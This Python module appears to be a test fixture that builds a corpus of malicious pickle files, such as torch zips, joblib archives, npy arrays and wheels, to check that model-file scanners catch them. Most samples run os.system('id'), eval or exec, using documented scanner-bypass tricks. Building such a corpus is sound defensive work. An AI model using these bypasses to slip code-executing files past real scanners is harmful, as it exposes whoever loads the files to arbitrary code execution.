"""A malicious pickle corpus built from raw opcodes: never loaded, only scanned.

Each sample names the callable (or construct) a scanner must report and the
member it hides in.  The rows follow docs/formats.md §4.2 (measured misses of
picklescan, modelscan, fickling) and §4.3 (reported bypasses).  The bench
(bench/risk_bench.py) writes the same corpus to disk for the other scanners.
"""
from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from dataclasses import dataclass
from typing import Callable


@dataclass(frozen=True)
class Sample:
    name: str  # file name on disk (extension chosen as the attacker would)
    klass: str  # formats.md row / bypass class
    build: Callable[[], bytes]
    needle: str  # the callable (or construct) the error message must name
    member: str = ""  # the member path the message must name ("" for the file itself)


# ---------------------------------------------------------------- opcode helpers

def g(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 text form, valid in every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def u(s: str) -> bytes:
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s: str) -> bytes:
    """BINUNICODE."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def call1(callable_ops: bytes, arg: str, proto: int = 2) -> bytes:
    """callable(arg) with REDUCE."""
    return b"\x80" + bytes([proto]) + callable_ops + bu(arg) + b"\x85R."


def stack_global(module: str, name: str) -> bytes:
    return u(module) + u(name) + b"\x93"


# ---------------------------------------------------------------- containers

BENIGN_DATA_PKL = (b"\x80\x02" + g("collections", "OrderedDict") + b")R.")


def _member(name: str, method=zipfile.ZIP_STORED) -> zipfile.ZipInfo:
    """A member dated 1980-01-01: zipfile dates a bare name with the clock, so the same test input would
    differ from run to run (and a generated stream agree with the recorder one minute and not the next)."""
    info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
    info.compress_type = method
    return info


def torch_zip(data_pkl: bytes, extra: dict[str, bytes] | None = None, top: str = "archive") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(_member(f"{top}/data.pkl"), data_pkl)
        z.writestr(_member(f"{top}/byteorder"), b"little")
        z.writestr(_member(f"{top}/data/0"), b"\x00" * 64)
        for name, data in (extra or {}).items():
            z.writestr(_member(f"{top}/{name}"), data)
        z.writestr(_member(f"{top}/version"), b"3\n")
    return buf.getvalue()


def zero_crcs(data: bytes) -> bytes:
    """Zero every CRC32 in local and central headers (torch 2.13 still loads such a zip)."""
    out = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        i = out.find(sig)
        while i >= 0:
            out[i + off:i + off + 4] = b"\x00\x00\x00\x00"
            i = out.find(sig, i + 4)
    return bytes(out)


def set_flags(data: bytes, bits: int) -> bytes:
    """OR general-purpose flag bits (encrypted = 1, data descriptor = 8) into every header."""
    out = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = out.find(sig)
        while i >= 0:
            (flags,) = struct.unpack("<H", out[i + off:i + off + 2])
            out[i + off:i + off + 2] = struct.pack("<H", flags | bits)
            i = out.find(sig, i + 4)
    return bytes(out)


def plain_zip(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in members.items():
            z.writestr(_member(name, method), data)
    return buf.getvalue()


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def lz4_frame(data: bytes) -> bytes:
    """An LZ4 frame with one uncompressed block (spec: lz4_Frame_format.md).

    The header checksum byte is not xxh32-correct; our decoder, like a scan,
    does not verify it.  Tests use the lz4 package for real frames when present.
    """
    try:
        import lz4.frame
        return lz4.frame.compress(data)
    except ImportError:
        return (b"\x04\x22\x4d\x18" + b"\x60\x70\x00" + struct.pack("<I", len(data) | 0x80000000) + data
                + b"\x00\x00\x00\x00")


def legacy_torch(third: bytes) -> bytes:
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    return magic + b"\x80\x02M\xe9\x03." + third + b"\x80\x02}q\x00." + b"\x80\x02]q\x00." + b"\x00" * 32


def joblib_array_then(evil: bytes) -> bytes:
    """joblib's layout: NumpyArrayWrapper, its BUILD, raw array bytes, then more opcodes."""
    dtype = (g("numpy", "dtype") + bu("f8") + b"\x89\x88\x87R"
             + b"(K\x03" + bu("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
    state = (b"}(" + bu("subclass") + g("numpy", "ndarray") + bu("shape") + b"K\x02\x85"
             + bu("order") + bu("C") + bu("dtype") + dtype + bu("allow_mmap") + b"\x89u")
    wrapper = g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    body = b"\x80\x04]" + wrapper + b"\x00" * 16 + b"a" + evil + b"a."
    return body


def tar_of(members: dict[str, bytes]) -> bytes:
    import tarfile
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# ---------------------------------------------------------------- the corpus

EVIL = call1(g("posix", "system"), "id")
EVIL_P0 = b"c__builtin__\nexec\n(S'import os'\ntR."


def _memo_confusion() -> bytes:
    # os and system are memoised, a harmless pair is pushed last: a scanner that
    # pairs STACK_GLOBAL with the two latest strings sees collections.OrderedDict.
    return (b"\x80\x04" + u("os") + b"\x94" + u("system") + b"\x94" + u("collections") + b"\x94"
            + u("OrderedDict") + b"\x94" + b"00" + b"h\x00h\x01\x93" + bu("id") + b"\x85R.")


def _binput_overwrite() -> bytes:
    # BINPUT 0 first holds a benign string, then is overwritten by "subprocess".
    return (b"\x80\x04" + u("torch") + b"q\x00" + b"0" + u("subprocess") + b"q\x00" + b"0"
            + u("check_output") + b"q\x01" + b"0" + b"h\x00h\x01\x93" + bu("id") + b"\x85R.")


def _build_then_get() -> bytes:
    # An allowed object gets attributes by BUILD; strings come back by GET for STACK_GLOBAL.
    return (b"\x80\x04" + u("builtins") + b"\x94" + u("eval") + b"\x94" + b"00"
            + g("collections", "OrderedDict") + b")R" + b"}" + u("x") + u("y") + b"sb" + b"0"
            + b"h\x00h\x01\x93" + bu("1+1") + b"\x85R.")


def _build_on_global() -> bytes:
    # BUILD on the class itself: monkey-patches an allowed callable.
    return (b"\x80\x02" + g("collections", "OrderedDict") + b"N}" + bu("__reduce__") + g("posix", "system")
            + b"s\x86b.")


def _getattr_chain() -> bytes:
    mod = g("importlib", "import_module") + bu("os") + b"\x85R"
    fn = g("builtins", "getattr") + b"(" + mod + bu("system") + b"tR"
    return b"\x80\x02" + fn + bu("id") + b"\x85R."


def _nested_loads() -> bytes:
    inner = EVIL
    return b"\x80\x03" + g("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R."


SAMPLES: tuple[Sample, ...] = (
    # formats.md §4.2
    Sample("posix_system_p2.pkl", "4.2 GLOBAL proto 2", lambda: EVIL, "posix.system"),
    Sample("os_system_p4.pkl", "4.2 STACK_GLOBAL proto 4",
           lambda: b"\x80\x04" + stack_global("os", "system") + bu("id") + b"\x85R.", "os.system"),
    Sample("exec_p0.txt", "4.2 proto 0 saved as .txt", lambda: EVIL_P0, "__builtin__.exec"),
    Sample("evil_torch.pt", "4.2 torch zip evil data.pkl", lambda: torch_zip(EVIL), "posix.system",
           "archive/data.pkl"),
    Sample("evil_torch_crc0.pt", "4.2 torch zip zeroed CRCs", lambda: zero_crcs(torch_zip(EVIL)), "posix.system",
           "archive/data.pkl"),
    Sample("p0_member.pt", "4.2 proto-0 zip member extra.bin",
           lambda: torch_zip(BENIGN_DATA_PKL, {"extra.bin": EVIL_P0}), "__builtin__.exec", "archive/extra.bin"),
    Sample("joblib_zlib.joblib", "4.2 joblib compress=3 (zlib)", lambda: zlib.compress(EVIL, 3), "posix.system"),
    Sample("joblib_gzip.joblib", "4.2 joblib gzip", lambda: gzip.compress(EVIL, 3), "posix.system"),
    Sample("importlib.pkl", "4.2 importlib.import_module", lambda: call1(g("importlib", "import_module"), "os"),
           "importlib.import_module"),
    Sample("dunder_import.pkl", "4.2 builtins.__import__", lambda: call1(g("builtins", "__import__"), "os"),
           "builtins.__import__"),
    Sample("numpy_load.pkl", "4.2 numpy.load", lambda: call1(g("numpy", "load"), "x.npy"), "numpy.load"),
    Sample("torch_load.pkl", "4.2 torch.load", lambda: call1(g("torch", "load"), "x.pt"), "torch.load"),
    Sample("code_interp.pkl", "4.2 code.InteractiveInterpreter",
           lambda: call1(g("code", "InteractiveInterpreter"), "x"), "code.InteractiveInterpreter"),
    Sample("attrgetter.pkl", "4.2 _operator.attrgetter", lambda: call1(g("_operator", "attrgetter"), "x"),
           "_operator.attrgetter"),
    Sample("methodcaller.pkl", "4.2 operator.methodcaller", lambda: call1(g("operator", "methodcaller"), "x"),
           "operator.methodcaller"),
    Sample("partial.pkl", "4.2 functools.partial", lambda: call1(g("functools", "partial"), "x"), "functools.partial"),
    Sample("pydoc_locate.pkl", "4.2 pydoc.locate", lambda: call1(g("pydoc", "locate"), "os.system"), "pydoc.locate"),
    Sample("resolve_name.pkl", "4.2 pkgutil.resolve_name", lambda: call1(g("pkgutil", "resolve_name"), "os:system"),
           "pkgutil.resolve_name"),
    Sample("codetype.pkl", "4.2 types.CodeType", lambda: call1(g("types", "CodeType"), "x"), "types.CodeType"),
    Sample("ser_load.pkl", "4.2 torch.serialization.load", lambda: call1(g("torch.serialization", "load"), "x"),
           "torch.serialization.load"),
    # formats.md §4.3
    Sample("memo_confusion.pkl", "4.3 memo confusion MEMOIZE", _memo_confusion, "os.system"),
    Sample("binput_overwrite.pkl", "4.3 memo confusion BINPUT overwrite", _binput_overwrite,
           "subprocess.check_output"),
    Sample("build_then_get.pkl", "4.3 BUILD setattr then GET+STACK_GLOBAL", _build_then_get, "builtins.eval"),
    Sample("build_on_global.pkl", "4.3 BUILD on an allowed class", _build_on_global, "collections.OrderedDict"),
    Sample("numpy_builtins.pkl", "4.3 numpy.__builtins__",
           lambda: b"\x80\x04" + stack_global("numpy", "__builtins__") + b".", "numpy.__builtins__"),
    Sample("dotted_name.pkl", "4.3 attribute path through a module",
           lambda: b"\x80\x04" + stack_global("numpy.testing._private.utils", "os.system") + bu("id") + b"\x85R.",
           "numpy.testing._private.utils.os.system"),
    Sample("getattr_chain.pkl", "4.3 importlib + getattr chain", _getattr_chain, "builtins.getattr"),
    Sample("nested_loads.pkl", "4.3 nested pickle.loads", _nested_loads, "pickle.loads"),
    Sample("nested_loads_inner.pkl", "4.3 nested pickle.loads (inner payload)", _nested_loads, "posix.system"),
    Sample("collect_env.pkl", "4.3 torch.utils.collect_env.run",
           lambda: call1(g("torch.utils.collect_env", "run"), "id"), "torch.utils.collect_env.run"),
    Sample("spawnv.pkl", "4.3 multiprocessing.util.spawnv_passfds",
           lambda: call1(g("multiprocessing.util", "spawnv_passfds"), "/bin/sh"),
           "multiprocessing.util.spawnv_passfds"),
    Sample("read_csv.pkl", "4.3 pandas.read_csv(url)", lambda: call1(g("pandas", "read_csv"), "http://x/"),
           "pandas.read_csv"),
    Sample("mailcap.pkl", "4.3 mailcap.findmatch", lambda: call1(g("mailcap", "findmatch"), "x"), "mailcap.findmatch"),
    Sample("mlflow.pkl", "4.3 mlflow model loader", lambda: call1(g("mlflow.pyfunc", "load_model"), "x"),
           "mlflow.pyfunc.load_model"),
    Sample("asyncio_sub.pkl", "4.3 deny-list submodule gap (JFrog)",
           lambda: call1(g("asyncio.unix_events", "_UnixSubprocessTransport"), "x"),
           "asyncio.unix_events._UnixSubprocessTransport"),
    Sample("unlisted_fn.pkl", "4.3 any unlisted callable (allowlist)", lambda: call1(g("shlex", "split"), "x"),
           "shlex.split"),
    Sample("flag_encrypted.pt", "4.3 zip 'encrypted' flag bit", lambda: set_flags(torch_zip(EVIL), 1),
           "posix.system", "archive/data.pkl"),
    Sample("flag_descriptor.pt", "4.3 zip data-descriptor flag bit", lambda: set_flags(torch_zip(EVIL), 8),
           "posix.system", "archive/data.pkl"),
    Sample("odd_ext.pt", "4.3 odd member extension (storage name)",
           lambda: torch_zip(BENIGN_DATA_PKL, {"data/7": EVIL}), "posix.system", "archive/data/7"),
    Sample("odd_ext2.zip", "4.3 odd member extension (.weights, deflated)",
           lambda: plain_zip({"model.weights": EVIL}), "posix.system", "model.weights"),
    Sample("p0_member_deflate.zip", "4.3 proto-0 in a deflated zip member",
           lambda: plain_zip({"x/y.dat": EVIL_P0}), "__builtin__.exec", "x/y.dat"),
    Sample("joblib_bz2.joblib", "4.3 compressed joblib bz2", lambda: bz2.compress(EVIL), "posix.system"),
    Sample("joblib_xz.joblib", "4.3 compressed joblib xz", lambda: lzma.compress(EVIL), "posix.system"),
    Sample("joblib_lzma.joblib", "4.3 compressed joblib lzma",
           lambda: lzma.compress(EVIL, format=lzma.FORMAT_ALONE), "posix.system"),
    Sample("joblib_lz4.joblib", "4.3 compressed joblib lz4", lambda: lz4_frame(EVIL), "posix.system"),
    Sample("joblib_after_array.joblib", "4.3 joblib payload after inline array data",
           lambda: joblib_array_then(g("posix", "system") + bu("id") + b"\x85R"), "posix.system"),
    Sample("npy_object.npy", "4.3 numpy object array", lambda: npy_object(EVIL), "posix.system"),
    Sample("npz_object.npz", "4.3 object array in npz", lambda: plain_zip({"arr_0.npy": npy_object(EVIL)}),
           "posix.system", "arr_0.npy"),
    Sample("wheel_nested.whl", "4.3 pickle in a zip in a wheel",
           lambda: plain_zip({"pkg/model.pt": torch_zip(EVIL), "pkg/__init__.py": b""}),
           "posix.system", "pkg/model.pt!archive/data.pkl"),
    Sample("legacy_evil.pt", "4.3 legacy torch, evil third pickle", lambda: legacy_torch(EVIL), "posix.system"),
    Sample("torchscript_evil.pt", "4.3 TorchScript with an evil constants.pkl",
           lambda: torch_zip(BENIGN_DATA_PKL, {"constants.pkl": call1(g("builtins", "eval"), "1"),
                                              "code/__torch__/m.py": b"def f(): pass\n"}),
           "builtins.eval", "archive/constants.pkl"),
    Sample("proto1_obj.bin", "4.3 protocol 1 OBJ, no magic",
           lambda: b"(cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01o.", "os.system"),
    Sample("inst.pkl", "4.3 protocol 0 INST", lambda: b"(S'id'\nios\nsystem\n.", "os.system"),
    Sample("ext_registry.pkl", "4.3 copyreg extension registry (EXT1)",
           lambda: b"\x80\x02\x82\x01" + bu("id") + b"\x85R.", "EXT1"),
    Sample("stack_global_computed.pkl", "4.3 STACK_GLOBAL on computed operands",
           lambda: b"\x80\x04" + g("builtins", "str") + b")R" + u("system") + b"\x93.", "STACK_GLOBAL"),
    Sample("trailing_payload.pkl", "4.3 second pickle after STOP",
           lambda: BENIGN_DATA_PKL + EVIL, "posix.system"),
    Sample("polyglot.pkl", "4.3 polyglot: benign pickle with a zip appended",
           lambda: BENIGN_DATA_PKL + plain_zip({"archive/data.pkl": EVIL}), "posix.system", "archive/data.pkl"),
    Sample("torch_tar.pt", "4.3 pre-1.0 torch tar format (members storages, tensors, pickle)",
           lambda: tar_of({"storages": b"\x80\x02K\x00.", "tensors": b"\x80\x02K\x00.", "pickle": EVIL}),
           "posix.system", "pickle"),
    Sample("gzip_in_zip.zip", "4.3 gzip joblib inside a zip", lambda: plain_zip({"m.joblib": gzip.compress(EVIL)},
                                                                               zipfile.ZIP_STORED),
           "posix.system", "m.joblib"),
)
